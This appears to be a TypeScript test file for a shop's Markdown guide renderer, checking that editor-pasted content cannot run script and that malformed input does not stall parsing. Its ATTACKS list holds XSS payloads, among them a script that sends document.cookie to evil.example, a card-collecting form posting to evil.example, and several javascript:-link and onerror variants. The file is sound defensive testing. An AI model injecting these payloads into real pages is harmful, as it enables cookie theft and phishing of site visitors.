import { render } from "@testing-library/react"
import { prepareGuideBody } from "@biome/shared"
import { describe, expect, it, vi } from "vitest"
import { immuneDailyDefence } from "@/test/catalog-fixtures"
import styles from "./inline-product-card.module.css"
import { MarkdownBody } from "./markdown-body"

vi.mock("@/lib/actions/cart", () => ({ addFromGuideAction: vi.fn() }))

/**
 * Whatever an editor (or a stolen editor account) pastes into a guide, the page that renders it runs no
 * script, loads nothing from elsewhere but images over http(s), and stays quick to build.
 */
function renderHostile(source: string) {
  const body = prepareGuideBody(source, { citations: [1] })
  return render(<MarkdownBody body={body} products={new Map([[immuneDailyDefence.handle, immuneDailyDefence]])} />).container
}

function assertInert(container: HTMLElement) {
  expect(
    container.querySelector(
      "script, style, iframe, object, embed, svg, math, form:not(aside[data-product-handle] form), input:not([type=hidden]), link, meta, base, template"
    )
  ).toBeNull()
  for (const el of container.querySelectorAll("*")) {
    for (const { name, value } of el.attributes) {
      expect(name, el.outerHTML).not.toMatch(/^on|^style$|^srcdoc$|^formaction$/i)
      // React gives the card's server-action forms a placeholder action in tests; no content reaches it.
      if (name === "href" || name === "src" || (name === "action" && !el.closest("aside[data-product-handle]")))
        expect(value, el.outerHTML).not.toMatch(/^\s*(javascript|data|vbscript|file):|^\s*\/\//i)
    }
  }
}

const ATTACKS: Record<string, string> = {
  "a script block": '<script>fetch("https://evil.example/?c=" + document.cookie)</script>',
  "an inline script": "Read on <script>alert(1)</script> please.",
  "a script hidden in a comment": "<!-- --><script>alert(1)</script><!-- -->",
  "an image with a handler": "<img src=x onerror=alert(1)>",
  "an SVG with a script": '<svg><script>alert(1)</script><a xlink:href="javascript:alert(2)">x</a></svg>',
  "a frame with srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "a form posting elsewhere": '<form action="https://evil.example"><input name=card><button>Pay</button></form>',
  "a style block": "<style>body{display:none}</style>",
  "a meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  "a javascript link in Markdown": "[win a prize](javascript:alert(1)) and [b](  JAVASCRIPT:alert(2))",
  "a link written as a reference": "[click][x]\n\n[x]: javascript:alert(1)",
  "a protocol-relative link by reference": "[click][y]\n\n[y]: //evil.example/steal",
  "a data: image": "![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "an image by reference to javascript": "![pic][z]\n\n[z]: javascript:alert(1)",
  "an autolink to javascript": "<javascript:alert(1)>",
  "a heading that is a link to javascript": "## [Section](javascript:alert(1))",
  "a product card with extra attributes": '::product{handle="immune-daily-defence" onclick="alert(1)" style="position:fixed" class="x"}',
  "a product card whose handle breaks out": '::product{handle="\\"><script>alert(1)</script>"}',
  "an unknown directive": ':::script\nalert(1)\n:::\n\n::iframe{src="https://evil.example"}',
  "a text directive with attributes": 'Hello :span[there]{onclick="alert(1)" style="color:red"}',
  "a citation marker next to HTML": "Fact[^1]<img src=x onerror=alert(1)>",
  "a table cell with HTML": "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
  "a task list checkbox": "- [x] done\n- [ ] to do",
  "an entity-encoded scheme": "[a](&#106;avascript:alert(1)) [b](java&#x09;script:alert(1))",
}

describe("a guide body nobody can turn against its readers", () => {
  for (const [name, source] of Object.entries(ATTACKS)) {
    it(`runs no script from ${name}`, () => {
      assertInert(renderHostile(source))
    })
  }

  it("keeps the card's own buttons as the only forms, posting to the shop", () => {
    const container = renderHostile(ATTACKS["a product card with extra attributes"]!)
    const card = container.querySelector("aside[data-product-handle]")!
    expect(card.getAttribute("style")).toBeNull()
    expect(card.getAttribute("class")).toBe(styles.card)
    expect(card.querySelectorAll("button")).toHaveLength(2)
  })
})

// Guide bodies come from an editor; a paste gone wrong must not stall the page that renders it.
const n = 5_000
const STRESS: Record<string, string> = {
  "unclosed tags": "<a ".repeat(n),
  "unclosed attribute quotes": '<a "'.repeat(n),
  "unclosed scripts": "<script>".repeat(n),
  "unclosed comments": "<!--".repeat(n),
  "open brackets": "[".repeat(n * 3),
  "half links": "[a](".repeat(n),
  "stray backticks": "`a``".repeat(n),
  "unmatched strong": "**a ".repeat(n),
  "emphasis pairs": "*a* ".repeat(n),
  "a long list": "- a\n".repeat(n),
  "citation markers": "[^1]".repeat(n),
  "claim marks": "health* ".repeat(n),
  "colons that look like directives": "a:b ".repeat(n),
  "product cards": '::product{handle="immune-daily-defence"}\n\n'.repeat(1_000),
  "deep quotes": `${">".repeat(n)} deep`,
}

describe("a guide body pasted wrong", () => {
  for (const [name, source] of Object.entries(STRESS)) {
    it(`still renders with ${name}`, () => {
      const body = prepareGuideBody(source, { citations: [1] })
      expect(Array.isArray(body.tree.children)).toBe(true)
    })
  }

  it("cuts a body longer than the limit instead of parsing it all", () => {
    const body = prepareGuideBody("word ".repeat(100_000))
    const text = JSON.stringify(body.tree)
    expect(text.length).toBeLessThan(300_000)
  })
})
